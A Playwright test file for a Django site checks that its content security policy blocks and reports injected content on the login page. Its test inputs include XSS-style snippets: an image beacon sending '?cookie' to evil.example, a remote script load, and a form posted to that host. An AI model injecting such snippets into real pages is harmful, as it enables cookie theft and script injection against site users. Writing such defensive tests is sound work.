"""Every browser test fails when a page breaks the content security policy: the watch is awake."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from nexa_site.models import PolicyViolation

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

BREACHES = {
    "an inline script": """
        const script = document.createElement("script");
        script.textContent = "document.title = 'taken over'";
        document.body.append(script);""",
    "an inline style": """
        const style = document.createElement("style");
        style.textContent = "body { display: none }";
        document.body.append(style);""",
    "an event attribute": """document.body.setAttribute("onclick", "document.title = 'taken over'");""",
    "a script from elsewhere": """
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.body.append(script);""",
    "a picture that tells": """new Image().src = "https://evil.example/?cookie";""",
    "a frame": """
        const frame = document.createElement("iframe");
        frame.src = "https://evil.example/";
        document.body.append(frame);""",
    "a request to elsewhere": """fetch("https://evil.example/").catch(() => {});""",
    "a base": """
        const base = document.createElement("base");
        base.href = "https://evil.example/";
        document.head.append(base);""",
    "a form to elsewhere": """
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();""",
}


@pytest.mark.parametrize("what", BREACHES)
def test_it_is_stopped_and_noticed(
    live_server, page: Page, policy_violations: list[str], what: str
) -> None:
    page.goto(f"{live_server.url}/login/")
    assert policy_violations == []
    with page.expect_event("console"):
        # As a bug of ours would: from a page's own script, not past the policy.
        page.evaluate(BREACHES[what])
    # Asked directly: locators wait for the navigation that a stopped form never makes.
    title, display = page.evaluate("[document.title, getComputedStyle(document.body).display]")
    assert (title != "taken over", display != "none") == (True, True)
    assert policy_violations != []
    # Without this line the test would fail at its end.
    policy_violations.clear()


def test_the_browser_reports_it_and_it_is_counted(
    live_server, page: Page, policy_violations: list[str]
) -> None:
    page.goto(f"{live_server.url}/login/")
    with page.expect_response("**/csp-report/") as answer:
        page.evaluate(BREACHES["an inline script"])
    assert answer.value.status == 204
    row = PolicyViolation.objects.get()
    assert (row.directive, row.blocked, row.page) == ("script-src-elem", "inline", "/login/")
    assert any(line.startswith("reported: ") for line in policy_violations)
    policy_violations.clear()


@pytest.mark.parametrize("how", ["a page of its own", "a second context"])
def test_no_page_is_opened_past_the_watch(
    live_server, browser, policy_violations: list[str], how: str
) -> None:
    opened = browser.new_page() if how == "a page of its own" else browser.new_context().new_page()
    opened.goto(f"{live_server.url}/login/")
    with opened.expect_event("console"):
        opened.evaluate(BREACHES["an inline style"])
    opened.context.close()
    assert policy_violations != []
    policy_violations.clear()
